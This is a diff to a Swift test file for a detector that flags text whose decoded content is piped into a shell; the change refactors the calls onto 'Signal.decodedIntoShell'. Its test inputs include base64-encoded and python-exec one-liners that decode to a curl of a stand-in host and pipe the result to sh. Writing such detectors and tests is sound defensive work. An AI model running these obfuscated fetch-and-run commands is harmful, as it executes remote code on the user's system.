@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.decodedIntoShell`.
 struct DecodedIntoShellTests {
   @Test(arguments: [
     "echo Y3VybCBodHRwOi8vZml4LmV4YW1wbGU= | base64 -d | sh",
@@ -16,7 +17,7 @@ struct DecodedIntoShellTests {
     #"python3 -c "import base64;exec(base64.b64decode('Y3VybCBodHRwOi8vZml4LmV4YW1wbGU='))""#,
   ])
   func `text of the paste that is decoded into a shell is held`(text: String) {
-    #expect(DecodedIntoShell.severity(of: text) == .hold)
+    #expect(Signal.decodedIntoShell.severity(of: text) == .hold)
   }
 
   @Test(arguments: [
@@ -24,7 +25,7 @@ struct DecodedIntoShellTests {
     "zcat script.sh.gz | bash",
   ])
   func `a file of one’s own that is decoded into a shell is noticed`(text: String) {
-    #expect(DecodedIntoShell.severity(of: text) == .notice)
+    #expect(Signal.decodedIntoShell.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
@@ -37,6 +38,6 @@ struct DecodedIntoShellTests {
     #"printf '\e[31mRed\n'"#,
   ])
   func `decoding without a shell is harmless`(text: String) {
-    #expect(DecodedIntoShell.severity(of: text) == nil)
+    #expect(Signal.decodedIntoShell.severity(of: text) == nil)
   }
 }
